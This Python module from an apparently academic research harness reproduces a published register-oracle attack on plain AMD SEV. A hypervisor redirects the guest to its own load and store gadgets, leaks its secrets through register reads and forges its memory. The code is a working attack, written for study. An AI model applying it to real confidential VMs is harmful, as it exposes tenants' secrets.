"""E7, A4a, A9: plain SEV leaves the registers to the hypervisor, and code that reads memory for it."""

from __future__ import annotations

import struct
from typing import Final

from cbit.attacks.experiments.correspondent import correspondent, places
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.guest import HLT, PAGE_FAULT
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts
from cbit.attacks.power import Power
from cbit.guest.builtin.interface import IMAGE, RESULT

#: The guest looks its key up: mov rax, [rsi + 20]; mov rcx, [rsi + 28]; clc; ret
LOAD: Final = bytes.fromhex("488b4614 488b4e1c f8 c3")
LOADS_AT: Final = 20  #: from rSI
#: It wipes its round keys: rep stosd; popf
STORE: Final = bytes.fromhex("f3ab 9d")
_HLT: Final = b"\xf4"
NOWHERE: Final = 0x1000  #: the guest maps nothing there: as a stack it faults
FORGED: Final = 0x6465_6772  #: "rged", twice


_ES = stopped_by("SEV-ES: registers are encrypted and their integrity is checked at VMRUN")
NEEDS_ES: Final = "what stops it is SEV-ES, which this machine does not have; no rule of plain SEV does"
EXPECT = {
    Mode.NONE: SUCCEEDS,
    Mode.SME: SUCCEEDS,
    Mode.SEV: succeeds("registers are in the VMCB and in the processor, in the clear"),
    Mode.SEV_ES: _ES,
    Mode.SEV_SNP: _ES,
}


@attack(
    title="The victim's own instructions as an oracle",
    experiment="E7",
    paper="Hetzelt & Buhren, VEE 2017 (attacks.md A4a); Werner et al., AsiaCCS 2019 (A9)",
    holds={Power.TAKE_EXITS, Power.USE_REGISTERS},
    expect=EXPECT,
    unshown=NEEDS_ES,
    victim=correspondent,
)
def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Point rIP at loads in the victim's code and rSI at its secrets; read rAX and rCX at the next exit.

    The loads are executed by the guest, with the guest's key.  The hypervisor chooses their address and sees
    their result, for plain SEV protects memory and not registers.  A store forges memory the same way.  With
    rSP nowhere the return behind them faults, and the fault is the exit.
    """
    hands.victim.until(HLT)
    registers = hands.registers
    saved = registers.all() | {"rip": registers["rip"]}
    log.step(f"the victim halts at rIP {saved['rip']:#x}: its registers are saved")
    image = facts.data("image")
    load, store = IMAGE + image.index(LOAD), IMAGE + image.index(STORE)
    log.step(f"loads at {load:#x}, stores at {store:#x} of the public image; the stack is taken away", LOAD)
    registers.take_faults(on=True)
    registers["rsp"] = NOWHERE

    def loaded(at: int) -> bytes:
        registers["rip"], registers["rsi"] = load, at - LOADS_AT
        hands.victim.until(PAGE_FAULT)
        return struct.pack("<2Q", registers["rax"], registers["rcx"])

    pieces, before = places(facts, 16), hands.victim.exits
    loot = b"".join(map(loaded, pieces))
    exits = hands.victim.exits - before
    log.step(f"{exits} exits, two loads of the victim's own before each", loot)
    registers["rip"], registers["rdi"], registers["rcx"] = store, RESULT, 4
    registers["rax"] = FORGED
    hands.victim.until(PAGE_FAULT)
    log.step("a store, and a load of what it stored", loaded(RESULT))
    registers.take_faults(on=False)
    for name, value in saved.items():
        registers[name] = value
    registers["rip"] = saved["rip"] + len(_HLT)
    hands.victim.until(HLT)
    log.step("the registers are put back, and the victim goes on as if nothing had been")
    log.figure("exits for each 8 bytes", 8 * exits / len(loot))
    return loot
